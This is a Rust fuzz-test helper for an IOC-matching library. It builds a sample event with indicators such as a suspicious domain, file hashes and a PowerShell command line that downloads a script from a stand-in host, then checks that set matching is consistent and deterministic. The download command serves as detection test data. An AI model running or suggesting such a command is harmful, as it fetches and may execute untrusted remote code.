//! Shared checks for the IOC feed targets (included with `#[path]`).
#![allow(dead_code)]

use std::sync::OnceLock;
use tracehunt_event::{Event, Value};
use tracehunt_ioc::{IocError, IocSet, LoadReport};

/// The feed label every IOC target loads with; errors must name it.
pub const ORIGIN: &str = "fuzz-feed";

fn events() -> &'static [Event] {
    static EV: OnceLock<Vec<Event>> = OnceLock::new();
    EV.get_or_init(|| {
        let mut v = crate::common::events();
        // One event with a value of every IOC kind the seeds use.
        let mut e = Event::default();
        e.push("DestinationIp", Value::from("203.0.113.9"));
        e.push("QueryName", Value::from("cdn.evil.example"));
        e.push(
            "CommandLine",
            Value::from("powershell iwr http://198.51.100.7/a.ps1 hxxp://evil.example/x"),
        );
        e.push(
            "Hashes",
            Value::from(
                "MD5=d41d8cd98f00b204e9800998ecf8427e,SHA256=e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
            ),
        );
        v.push(e);
        v
    })
}

/// A whole-feed error names the feed.
pub fn check_error(e: &IocError) {
    assert!(e.to_string().starts_with(ORIGIN), "error without feed: {e}");
}

/// The compiled set: no more IOCs than loaded entries (de-duplication only
/// shrinks), every hit points at an IOC of the set, matching is
/// deterministic.
pub fn check_set(set: IocSet, report: &LoadReport) {
    assert!(
        set.len() <= report.total(),
        "{} > {}",
        set.len(),
        report.total()
    );
    for ev in events() {
        let hits = set.matches(ev);
        for h in &hits {
            let ioc = set.ioc(h.ioc).expect("hit names an IOC of the set");
            assert_eq!(ioc.kind, h.kind);
        }
        assert_eq!(hits, set.matches(ev));
    }
}
